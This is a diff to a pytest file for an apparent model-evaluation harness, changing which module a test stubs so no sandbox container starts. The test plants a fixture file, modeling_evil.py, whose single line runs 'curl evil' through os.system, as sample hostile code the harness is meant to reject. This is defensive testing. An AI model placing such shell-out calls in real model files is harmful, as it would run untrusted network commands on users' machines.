@@ -18,10 +18,10 @@ def _no_container(*args, **kwargs):
 def test_hostile_folder_exits_1_without_starting_a_container(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    import harness.sandbox
+    import harness.evaluation.stage
     import harness.sandbox.runtime
 
-    monkeypatch.setattr(harness.sandbox, "run_sandbox", _no_container)
+    monkeypatch.setattr(harness.evaluation.stage, "run_sandbox", _no_container)
     monkeypatch.setattr(harness.sandbox.runtime, "docker_client", _no_container)
     root = write_tiny_model(tmp_path / "m")
     (root / "modeling_evil.py").write_text("import os; os.system('curl evil')")
